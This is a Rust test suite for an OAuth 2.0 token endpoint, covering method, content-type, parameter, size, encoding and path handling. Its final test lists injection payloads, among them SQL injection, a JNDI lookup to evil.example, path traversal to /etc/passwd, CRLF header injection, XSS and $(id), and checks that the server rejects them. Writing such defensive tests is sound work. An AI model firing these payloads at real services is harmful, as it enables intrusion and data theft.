//! The token endpoint: transport, parameters, answers (RFC 6749 sections 3.2, 5.1 and 5.2).
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test fails by panicking")]

mod common;

use bytes::Bytes;
use common::*;
use http::header::{ALLOW, CONTENT_TYPE};
use http::{Method, Request, Response};

fn raw(content_type: Option<&str>, body: impl Into<Bytes>) -> Request<Bytes> {
    let mut request = post_basic("/token", "sec", "sec-secret", &[]);
    *request.body_mut() = body.into();
    request.headers_mut().remove(CONTENT_TYPE);
    if let Some(content_type) = content_type {
        request.headers_mut().insert(CONTENT_TYPE, content_type.parse().unwrap());
    }
    request
}

fn form(body: impl Into<Bytes>) -> Request<Bytes> {
    raw(Some("application/x-www-form-urlencoded"), body)
}

#[tokio::test]
async fn only_post_is_served() {
    let fixture = Fixture::new();
    let code = fixture.code("sec").await;
    let before = fixture.snapshot();
    for method in [Method::GET, Method::HEAD, Method::PUT, Method::DELETE, Method::PATCH, Method::OPTIONS] {
        for path in ["/token", "/introspect", "/revoke"] {
            let mut request = post_basic(path, "sec", "sec-secret", &redemption(&code));
            *request.method_mut() = method.clone();
            let answer = fixture.send(request).await;
            answer.is_refused(405, "invalid_request");
            assert_eq!(answer.headers[ALLOW], "POST");
        }
    }
    assert_eq!(fixture.snapshot(), before);
    fixture.redeem("sec", &code).await.is_ok();
}

#[tokio::test]
async fn the_query_is_not_read() {
    let fixture = Fixture::new();
    let code = fixture.code("sec").await;
    let query = encode(&redemption(&code));
    let empty = post_basic(&format!("/token?{query}"), "sec", "sec-secret", &[]);
    fixture.send(empty).await.is_refused(400, "invalid_request");
    let (first, rest) = redemption(&code).split_first().map(|(first, rest)| ([*first], rest.to_vec())).unwrap();
    let split = post_basic(&format!("/token?{}", encode(&first)), "sec", "sec-secret", &rest);
    fixture.send(split).await.is_refused(400, "invalid_request");
    let credentials = "/token?client_id=post&client_secret=post-secret";
    fixture.send(post(credentials, &redemption(&code))).await.is_refused(401, "invalid_client");
    let beside = post_basic("/token?grant_type=x&client_id=sec2", "sec", "sec-secret", &redemption(&code));
    fixture.send(beside).await.is_ok();
}

#[tokio::test]
async fn the_body_is_a_form() {
    let fixture = Fixture::new();
    let code = fixture.code("sec").await;
    let body = encode(&redemption(&code));
    for content_type in [
        None,
        Some(""),
        Some("application/json"),
        Some("multipart/form-data; boundary=x"),
        Some("text/plain"),
        Some("application/x-www-form-urlencoded-not"),
        Some("application/json, application/x-www-form-urlencoded"),
        Some("application/x-www-form-urlencoded, application/json"),
        Some("application/json; application/x-www-form-urlencoded"),
        Some("application/x-www-form-urlencoded; charset=utf-16"),
        Some("application/x-www-form-urlencoded; charset=iso-8859-1"),
        Some("application/x-www-form-urlencoded; charset=utf-8; charset=utf-16"),
    ] {
        let answer = fixture.send(raw(content_type, body.clone())).await;
        answer.is_refused(415, "invalid_request");
    }
    let mut twice = form(body.clone());
    twice.headers_mut().append(CONTENT_TYPE, "application/json".parse().unwrap());
    fixture.send(twice).await.is_refused(415, "invalid_request");
    let mut packed = form(body.clone());
    packed.headers_mut().insert("content-encoding", "gzip".parse().unwrap());
    fixture.send(packed).await.is_refused(415, "invalid_request");
    for content_type in [
        "application/x-www-form-urlencoded",
        "application/x-www-form-urlencoded; charset=utf-8",
        "application/x-www-form-urlencoded;charset=UTF-8",
        "Application/X-WWW-Form-Urlencoded; Charset=\"utf-8\"",
    ] {
        let code = fixture.code("sec").await;
        fixture.send(raw(Some(content_type), encode(&redemption(&code)))).await.is_ok();
    }
}

#[tokio::test]
async fn repeated_parameters_are_refused() {
    let fixture = Fixture::new();
    let code = fixture.code("post").await;
    let before = fixture.snapshot();
    let credentials = [("client_id", "post"), ("client_secret", "post-secret")];
    let params = [redemption(&code).as_slice(), &credentials, &[("refresh_token", "x"), ("unknown", "y")]].concat();
    for (name, value) in &params {
        for second in [value, "other", ""] {
            for twice in [[params.as_slice(), &[(*name, second)]], [&[(*name, second)], &params]] {
                fixture.send(post("/token", &twice.concat())).await.is_refused(400, "invalid_request");
            }
        }
    }
    assert_eq!(fixture.snapshot(), before);
    fixture.send(post("/token", &params)).await.is_ok();
}

#[tokio::test]
async fn unknown_parameters_are_ignored_and_empty_ones_omitted() {
    let fixture = Fixture::new();
    let code = fixture.code("sec").await;
    let unknown =
        [("scope[a]", "b"), ("client_id[]", "pub"), ("code[]", "x"), ("Grant_Type", "password"), ("refresh_token", "")];
    fixture.token("sec", &[redemption(&code).as_slice(), &unknown].concat()).await.is_ok();
    for name in ["grant_type", "code"] {
        for empty in [None, Some("")] {
            let request = redemption("x");
            let answer = fixture.token("sec", &changed(&request, name, empty)).await;
            answer.is_refused(400, "invalid_request");
            assert!(answer.text("error_description").ends_with(&format!(": {name}")));
        }
    }
}

#[tokio::test]
async fn the_grant_is_one_that_is_offered_and_the_clients() {
    let fixture = Fixture::new();
    for unknown in ["password", "implicit", "AUTHORIZATION_CODE", "authorization_code ", "' OR 1=1"] {
        fixture.token("sec", &[("grant_type", unknown)]).await.is_refused(400, "unsupported_grant_type");
    }
    let before = fixture.snapshot();
    for (client, grant_type) in [
        ("cc", "authorization_code"),
        ("cc", "refresh_token"),
        ("sec", "client_credentials"),
        ("pub", "client_credentials"),
    ] {
        let request = [("grant_type", grant_type), ("code", "x"), ("refresh_token", "x")];
        fixture.token(client, &request).await.is_refused(400, "unauthorized_client");
    }
    assert_eq!(fixture.snapshot(), before);
}

#[tokio::test]
async fn answers_have_the_shape_and_headers_of_sections_5_1_and_5_2() {
    let fixture = Fixture::new();
    let request = changed(&code_request("sec"), "scope", Some("profile email"));
    let pending = fixture.consent(&request, &fixture.login("alice")).await;
    let narrowed = grantwell::Decision::Approve { scope: Some("email".parse().unwrap()), remember: false };
    let response = fixture.server.decide(pending.ticket(), Some(&fixture.login("alice")), narrowed).await;
    let tokens = fixture.redeem("sec", &redirect_param(&response, "code").unwrap()).await;
    let members: Vec<&str> = tokens.is_ok().json.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(members, ["access_token", "expires_in", "refresh_token", "scope", "token_type"]);
    assert_eq!((tokens.text("token_type"), tokens.text("scope")), ("Bearer", "email"));
    assert_eq!(tokens.json["expires_in"].as_u64(), Some(3600));
    let refused = fixture.redeem("sec", "unknown").await;
    refused.is_refused(400, "invalid_grant");
    let members: Vec<&str> = refused.json.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(members, ["error", "error_description"]);
    assert!(refused.text("error_description").bytes().all(|b| matches!(b, 0x20..=0x21 | 0x23..=0x5b | 0x5d..=0x7e)));
    for answer in [&tokens, &refused] {
        assert_eq!(answer.headers[CONTENT_TYPE], "application/json");
        assert_eq!(answer.headers["cache-control"], "no-store");
        assert_eq!(answer.headers["pragma"], "no-cache");
        assert_eq!(answer.headers["x-content-type-options"], "nosniff");
        has_clean_headers(&answer.headers);
    }
}

#[tokio::test]
async fn sizes_are_bounded() {
    let fixture = Fixture::new();
    let code = fixture.code("sec").await;
    let good = encode(&redemption(&code));
    let before = fixture.snapshot();
    let colliding: String = (0..100_000).map(|number| format!("a{number}=&")).collect();
    for (body, status) in [
        (format!("{good}&{}", "&".repeat(64 * 1024 - good.len())), 413),
        (format!("{good}&x={}", "x".repeat(1024 * 1024)), 413),
        (format!("{good}{}", "&".repeat(1_000_000)), 413),
        (colliding.clone(), 413),
        (format!("{good}&{}", &colliding[..60_000]), 400),
        (format!("{good}{}", "&x=1".repeat(256 - 3)), 400),
        (format!("{good}&x={}", "x".repeat(8 * 1024 + 1)), 400),
        (format!("{good}&{}=1", "x".repeat(8 * 1024 + 1)), 400),
        (format!("{good}&{}", "%".repeat(60_000)), 400),
    ] {
        fixture.send(form(body)).await.is_refused(status, "invalid_request");
    }
    assert_eq!(fixture.snapshot(), before);
    let fields: String = (0..252).map(|number| format!("&p{number}={}", "x".repeat(100))).collect();
    let most = format!("{good}{fields}");
    let most = format!("{most}{}", "&".repeat(64 * 1024 - most.len()));
    assert_eq!((most.len(), most.split('&').filter(|field| !field.is_empty()).count()), (64 * 1024, 256));
    fixture.send(form(most)).await.is_ok();
    let code = fixture.code("sec").await;
    let longest = format!("{}&x={}", encode(&redemption(&code)), "%78".repeat(8 * 1024));
    fixture.send(form(longest)).await.is_ok();
}

#[tokio::test]
async fn a_broken_encoding_is_an_invalid_request() {
    let fixture = Fixture::new();
    for broken in ["%", "%4", "%zz", "%ff", "%c0%80", "%ed%a0%80"] {
        for body in [format!("grant_type={broken}"), format!("{broken}=1"), format!("grant_type=x&x={broken}")] {
            fixture.send(form(body)).await.is_refused(400, "invalid_request");
        }
    }
    fixture.send(form(Bytes::from_static(b"grant_type=\xff"))).await.is_refused(400, "invalid_request");
    fixture.send(form("")).await.is_refused(400, "invalid_request");
}

async fn status_at(fixture: &Fixture, path: &str) -> (u16, Response<Bytes>) {
    let request = post_basic(path, "cc", "cc-secret", &[("grant_type", "client_credentials")]);
    let response = fixture.server.endpoints().call(request).await;
    (response.status().as_u16(), response)
}

#[tokio::test]
async fn a_path_has_one_form() {
    let fixture = Fixture::new();
    assert_eq!(status_at(&fixture, "/token").await.0, 200);
    let before = fixture.snapshot();
    for path in [
        "/",
        "/token/",
        "//token",
        "/token;x=y",
        "/token%20",
        "/%74oken",
        "/x/../token",
        "/./token",
        "/TOKEN",
        "/Token",
        "/token/token",
        "/token%2f",
        "/token.json",
        "/authorize",
    ] {
        let (status, response) = status_at(&fixture, path).await;
        assert_eq!(status, 404, "{path}");
        assert_eq!(response.headers()[CONTENT_TYPE], "application/json");
    }
    assert_eq!(fixture.snapshot(), before);
    let tenant = Fixture::with(|builder| builder.base_url("https://as.example/t"));
    for (path, status) in [
        ("/t/token", 200),
        ("/token", 200),
        ("/ttoken", 404),
        ("/t//token", 404),
        ("/t/t/token", 404),
        ("/T/token", 404),
    ] {
        assert_eq!(status_at(&tenant, path).await.0, status, "{path}");
    }
}

#[tokio::test]
async fn an_injection_is_answered_like_any_other_wrong_value() {
    let fixture = Fixture::new();
    let code = fixture.code("sec").await;
    let refresh_token = fixture.tokens("sec").await.text("refresh_token").to_owned();
    let before = fixture.snapshot();
    let injections = [
        "' OR 1=1 --",
        "'; DROP TABLE clients; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "*)(uid=*))(|(uid=*",
        "../../etc/passwd",
        "%00",
        "\0",
        "\r\nX-Injected: 1",
        "<script>alert(1)</script>",
        "$(id)",
    ];
    let refresh = [("grant_type", "refresh_token"), ("refresh_token", refresh_token.as_str())];
    let introspect = [("token", refresh_token.as_str()), ("token_type_hint", "access_token")];
    for (path, params) in
        [("/token", redemption(&code)), ("/token", refresh.to_vec()), ("/introspect", introspect.to_vec())]
    {
        for name in params.iter().map(|(name, _)| *name).chain(["client_id"]) {
            if name == "token_type_hint" {
                continue;
            }
            let random = fixture.post_as(path, "sec", &changed(&params, name, Some("Zm9vYmFy"))).await;
            for injection in injections {
                let answer = fixture.post_as(path, "sec", &changed(&params, name, Some(injection))).await;
                assert_eq!((answer.status, &answer.json), (random.status, &random.json), "{name}={injection:?}");
                assert_eq!(answer.headers, random.headers);
                has_clean_headers(&answer.headers);
            }
        }
    }
    for injection in injections {
        let answer = fixture.send(post_basic("/token", injection, injection, &redemption(&code))).await;
        answer.is_refused(401, "invalid_client");
    }
    assert_eq!(fixture.snapshot(), before);
}
